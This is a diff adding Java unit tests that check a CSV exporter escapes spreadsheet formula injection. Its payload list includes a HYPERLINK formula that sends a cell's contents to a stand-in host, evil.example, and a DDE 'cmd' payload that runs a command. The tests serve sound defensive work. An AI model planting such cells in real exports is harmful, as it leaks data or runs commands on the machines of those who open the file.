@@ -133,4 +133,94 @@ class CsvExportTest {
         List.of(List.of("x", "y")))).isInstanceOf(IllegalArgumentException.class)
         .hasMessage("t: a row of 2 cells for 1 columns");
   }
+
+  /** Cells an attacker could put in a dataset, one per character that starts a spreadsheet formula. */
+  private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")",
+      "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1");
+
+  private static org.parley.model.Dataset withFormulas() {
+    org.parley.model.Dataset.Builder b = org.parley.model.Dataset.builder().from(Fixtures.dataset());
+    for (int i = 0; i < FORMULAS.size(); i++) {
+      // Names have no control characters: the tab and the carriage return go in headlines, which may.
+      String cell = FORMULAS.get(i);
+      if (Character.isISOControl(cell.charAt(0))) {
+        b.addSources(org.parley.model.Source.builder().id(org.parley.model.SourceId.of("source:formula-" + i))
+            .kind(org.parley.model.SourceKind.NEWS).headline(cell).build());
+      } else {
+        b.addActors(org.parley.model.Actor.builder().id(org.parley.model.ActorId.of("actor:formula-" + i))
+            .kind(org.parley.model.ActorKind.PERSON).name(cell).addAliases(cell).build());
+      }
+    }
+    return b.build();
+  }
+
+  /** Every cell of every table, by file, row and column. */
+  private static List<String> cells(Path dir) throws IOException {
+    List<String> cells = new java.util.ArrayList<>();
+    for (String file : CsvExport.fileNames()) {
+      List<Map<String, String>> rows = read(dir.resolve(file));
+      for (int r = 0; r < rows.size(); r++) {
+        for (Map.Entry<String, String> cell : rows.get(r).entrySet()) {
+          cells.add(file + " " + r + " " + cell.getKey() + " " + cell.getValue());
+        }
+      }
+    }
+    return cells;
+  }
+
+  @Test
+  void writesNoCellThatASpreadsheetWouldRunAsAFormulaAndChangesNoOtherCell(@TempDir Path dir) throws IOException {
+    Path safe = dir.resolve("safe");
+    Path raw = dir.resolve("raw");
+    CsvExport.write(withFormulas(), safe);
+    CsvExport.write(withFormulas(), raw, CsvExport.Cells.AS_IS);
+
+    List<Map<String, String>> actors = read(safe.resolve("actors.csv"));
+    for (String formula : FORMULAS.stream().filter(f -> !Character.isISOControl(f.charAt(0))).toList()) {
+      Map<String, String> actor = actors.stream().filter(a -> a.get("name").equals("'" + formula)).findFirst()
+          .orElseThrow(() -> new AssertionError("no actor named '" + formula));
+      assertThat(actor.get("aliases")).isEqualTo("'" + formula);
+    }
+    assertThat(read(safe.resolve("sources.csv"))).extracting(r -> r.get("headline"))
+        .contains("'\t=1+1", "'\r=1+1");
+    assertThat(read(raw.resolve("actors.csv"))).extracting(r -> r.get("name")).containsAll(
+        FORMULAS.stream().filter(f -> !Character.isISOControl(f.charAt(0))).toList());
+    // Cell for cell, the safe tables differ from the raw ones only by the leading ' of a formula's cell.
+    List<String> safeCells = cells(safe);
+    List<String> rawCells = cells(raw);
+    assertThat(safeCells).hasSameSizeAs(rawCells);
+    int changed = 0;
+    for (int i = 0; i < rawCells.size(); i++) {
+      String[] place = rawCells.get(i).split(" ", 4);
+      String value = place.length < 4 ? "" : place[3];
+      String expected = CsvExport.spreadsheetSafe(value);
+      assertThat(safeCells.get(i)).isEqualTo(String.join(" ", place[0], place[1], place[2], expected));
+      changed += expected.equals(value) ? 0 : 1;
+    }
+    // Five names and their aliases, two headlines.
+    assertThat(changed).isEqualTo(12);
+    for (String cell : safeCells) {
+      String value = cell.split(" ", 4).length < 4 ? "" : cell.split(" ", 4)[3];
+      assertThat(value).as(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
+          .doesNotStartWith("\t").doesNotStartWith("\r");
+    }
+  }
+
+  @Test
+  void leavesNumbersDatesAndWireNamesAsTheyAreAndOnlyTextThatStartsAFormula() {
+    assertThat(CsvExport.spreadsheetSafe("=1+1")).isEqualTo("'=1+1");
+    assertThat(CsvExport.spreadsheetSafe("-40")).isEqualTo("'-40");
+    assertThat(CsvExport.spreadsheetSafe("a=1")).isEqualTo("a=1");
+    assertThat(CsvExport.spreadsheetSafe(" =1")).isEqualTo(" =1");
+    assertThat(CsvExport.spreadsheetSafe("")).isEqualTo("");
+    Table numbers = new Table("t", "r", List.of(Column.integer("n", "n"), Column.text("s", "s")),
+        List.of(List.of("-5", "-5")));
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    try {
+      CsvExport.write(numbers, out);
+    } catch (IOException e) {
+      throw new AssertionError(e);
+    }
+    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("n,s\r\n-5,'-5\r\n");
+  }
 }
